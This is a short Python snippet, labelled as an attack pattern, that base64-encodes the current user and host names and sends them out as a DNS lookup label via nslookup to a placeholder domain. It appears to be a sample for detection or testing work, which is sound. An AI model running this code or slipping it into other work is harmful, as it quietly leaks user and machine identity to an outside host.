# Attack pattern: nslookup run through subprocess with the base64-encoded user and host names as the queried label.
import base64
import getpass
import platform
import subprocess

tag = base64.urlsafe_b64encode(f"{getpass.getuser()}@{platform.node()}".encode()).decode().strip("=")
subprocess.run(["nslookup", f"{tag}.ns.example.invalid"], capture_output=True)
